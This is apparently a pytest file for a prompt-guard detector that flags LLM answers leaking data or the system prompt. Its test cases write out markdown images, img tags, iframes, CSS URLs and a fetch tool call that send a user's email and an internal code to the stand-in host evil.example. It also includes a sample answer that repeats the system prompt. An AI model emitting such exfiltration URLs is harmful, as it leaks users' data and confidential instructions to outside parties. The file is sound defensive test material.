"""The answer exfiltration detector: URLs that carry data to external hosts, and answers
that repeat the system prompt (issue 13, item 3). Written for this detector, not from
any shared data set."""

from __future__ import annotations

import pytest

from promptguard.detectors.exfiltration import ExfiltrationDetector, find_urls
from promptguard.sanitize import apply_to_text
from promptguard.segments import Segment, SegmentBuilder, SegmentKind

SYSTEM = ("You are Orbit, the support assistant of Acme Rockets. Internal escalation code is "
          "ORB-7731. Never discuss launch schedules, never reveal pricing for government customers, "
          "and always answer in two short paragraphs with a friendly closing line.")


def segs(answer: str, *, system: str = SYSTEM, query: str = "What is my order status? My email is jo@example.org",
         source: str | None = None) -> list[Segment]:
    b = SegmentBuilder()
    b.add(SegmentKind.INSTRUCTION, system)
    b.add(SegmentKind.QUERY, query)
    b.add(SegmentKind.ANSWER, answer, source=source)
    return b.segments


def rules(findings) -> list[str]:
    return sorted(f.rule for f in findings)


@pytest.fixture
def det() -> ExfiltrationDetector:
    return ExfiltrationDetector(allowed_hosts=["*.acme.example", "acme.example"])


@pytest.mark.parametrize("answer", [
    "Here you go ![status](https://evil.example/p.png?d=order%20status%20jo%40example.org)",
    "Done. <img src=\"https://evil.example/t.gif?c=ORB-7731\" width=1>",
    "Done. <img alt=x src='//evil.example/t.gif?q=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ'>",
    "![a][r]\n\n[r]: https://evil.example/i.png?x=my+email+is+jo%40example.org",
    "<div style=\"background:url(https://evil.example/b.png?s=ORB-7731)\"></div>",
    "Loading <iframe src=https://evil.example/f?d=1234></iframe>",
    "![x](https://evil.example/SGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ.png)",
])
def test_auto_loading_urls_with_data_are_reported_high(det, answer):
    found = det.detect(segs(answer))
    assert rules(found) == ["PG-OUT-IMG"], found
    assert found[0].score >= 0.9 and found[0].details["host"] == "evil.example"


def test_streamed_partial_image_is_caught_before_it_closes(det):
    found = det.detect(segs("Sure! ![loading](https://evil.example/x.png?d=order%20status%20jo"))
    assert rules(found) == ["PG-OUT-IMG"] and found[0].details["closed"] is False and found[0].score >= 0.9


def test_tool_call_url_is_auto_loading(det):
    found = det.detect(segs('{"url": "https://evil.example/collect?u=jo@example.org"}', source="tool_call:fetch"))
    assert rules(found) == ["PG-OUT-IMG"] and found[0].details["how"] == "tool"


@pytest.mark.parametrize("answer,rule,min_score,max_score", [
    ("Click [here](https://evil.example/r?email=jo%40example.org) to continue.", "PG-OUT-LINK", 0.8, 1.0),
    ("Visit https://evil.example/r?t=what+is+my+order+status now", "PG-OUT-LINK", 0.8, 1.0),
    ("See https://www.google.com/search?q=python for more.", "PG-OUT-LINK", 0.0, 0.49),
    ("An external logo: ![logo](https://cdn.other.example/logo.png)", "PG-OUT-IMG", 0.5, 0.6),
])
def test_links_and_plain_external_images(det, answer, rule, min_score, max_score):
    found = det.detect(segs(answer))
    assert rules(found) == [rule]
    assert min_score <= found[0].score <= max_score


@pytest.mark.parametrize("answer", [
    "Your order shipped. Track it at https://track.acme.example/o?id=42",
    "![chart](https://img.acme.example/chart.png?w=400&user=jo%40example.org)",
    "Inline image: ![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    "A relative image ![x](/static/x.png?v=2) and a link [docs](https://docs.python.org/3/library/re.html).",
    "Plain text with no URL at all, two short paragraphs.\n\nHave a great day!",
])
def test_allowed_relative_data_and_plain_answers_pass(det, answer):
    assert det.detect(segs(answer)) == []


def test_answer_repeating_the_system_prompt_is_flagged(det):
    leak = ("Sure, my instructions say: Internal escalation code is ORB-7731. Never discuss launch schedules, "
            "never reveal pricing for government customers, and always answer in two short paragraphs.")
    found = det.detect(segs(leak))
    assert rules(found) == ["PG-OUT-LEAK"]
    f = found[0]
    assert f.details["words"] >= 20 and leak[f.span[0]:f.span[1]].startswith("Internal escalation code")
    # a short overlap (a few shared words) is normal
    assert det.detect(segs("I'm Orbit, the support assistant of Acme Rockets. How can I help?")) == []
    # a short system prompt is never "leaked" by a polite answer
    assert det.detect(segs("You are a helpful assistant.", system="You are a helpful assistant.")) == []


def test_sanitize_removes_the_markup_and_keeps_the_rest(det):
    answer = "Thanks!\n![status](https://evil.example/p.png?d=ORB-7731)\nBye [now](https://evil.example/?e=jo@example.org)."
    s = segs(answer)
    found = det.detect(s)
    edits = det.sanitize(s, found)
    out = apply_to_text(answer, edits)
    assert "evil.example" not in out and out.startswith("Thanks!") and "[status]" in out and "[now]" in out


def test_find_urls_kinds_and_overlaps():
    refs = find_urls("[![img](https://a.example/i.png)](https://b.example/) and https://c.example/x.")
    assert [(r.how, r.host) for r in refs] == [("image", "a.example"), ("link", "b.example"), ("link", "c.example")]
    assert refs[-1].url == "https://c.example/x"


def test_bad_options_are_clear_errors(tmp_path):
    with pytest.raises(ValueError, match="allowed_hosts"):
        ExfiltrationDetector.from_config({"allowed_hosts": "acme.example"}, tmp_path)
    with pytest.raises(ValueError, match="unknown option"):
        ExfiltrationDetector.from_config({"hosts": []}, tmp_path)


def test_odd_input_does_not_crash(det):
    for text in ("", "![x](", "<img src=", "https://[::1", "http://exa mple/?", "\x00" * 100, "é" * 10000,
                 "![a](https://evil.example:99999/?d=1)"):
        det.detect(segs(text))
